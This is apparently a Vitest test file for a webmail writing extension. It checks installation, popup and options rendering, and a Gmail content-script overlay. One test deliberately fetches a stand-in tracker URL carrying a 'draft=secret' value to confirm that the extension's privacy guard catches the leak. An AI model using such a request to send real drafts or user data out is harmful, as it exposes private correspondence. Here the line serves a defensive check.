import { describe, expect, it } from 'vitest';
import { distinctColours, saveScreenshot, WEBMAIL_URLS, waitFor, withExtension } from './harness';

const { ext } = withExtension();

describe('the extension in Chromium', () => {
  it('runs its service worker and finishes onInstalled', async () => {
    expect(ext.extensionId).toMatch(/^[a-p]{32}$/);
    const stored = await waitFor(
      () => ext.inWorker(async () => (await chrome.storage.local.get('installReason')).installReason),
      { message: 'onInstalled to record the install' },
    );
    expect(stored).toBe('install');
  });

  it('renders the popup, and its screenshot is not blank', async () => {
    const page = await ext.openPopup();
    await expect.poll(() => page.getByRole('heading', { name: 'StrongLetter' }).count()).toBeGreaterThan(0);
    const png = await saveScreenshot(page, 'popup');
    expect(await distinctColours(page, png)).toBeGreaterThan(8);
    await page.close();
  });

  it('renders the options page, and its screenshot is not blank', async () => {
    const page = await ext.openOptions();
    await expect.poll(() => page.getByRole('heading', { level: 1 }).count()).toBeGreaterThan(0);
    const png = await saveScreenshot(page, 'options');
    expect(await distinctColours(page, png)).toBeGreaterThan(8);
    await page.close();
  });

  it('catches a request that tries to leave the browser (the privacy guard works)', async () => {
    const page = await ext.openFixture(WEBMAIL_URLS.gmail, 'gmail-compose.html');
    await page.evaluate(() => fetch('https://tracker.example.com/collect?draft=secret').catch(() => undefined));
    await waitFor(() => ext.violations.length > 0, { message: 'the guard to record the request' });
    expect(ext.violations[0]).toContain('tracker.example.com');
    ext.violations.length = 0; // the leak was ours, on purpose
    await page.close();
  });

  it('attaches the content script on a Gmail address without touching the draft', async () => {
    const page = await ext.openFixture(WEBMAIL_URLS.gmail, 'gmail-compose.html');
    const body = page.locator('div[g_editable="true"]');
    const before = await body.evaluate((el) => el.innerHTML);
    await page.waitForSelector('strongletter-overlay', { state: 'attached' });
    const hasShadow = await page.evaluate(() => !!document.querySelector('strongletter-overlay')?.shadowRoot);
    expect(hasShadow).toBe(true);
    expect(await body.evaluate((el) => el.innerHTML)).toBe(before);
    await page.close();
  });
});
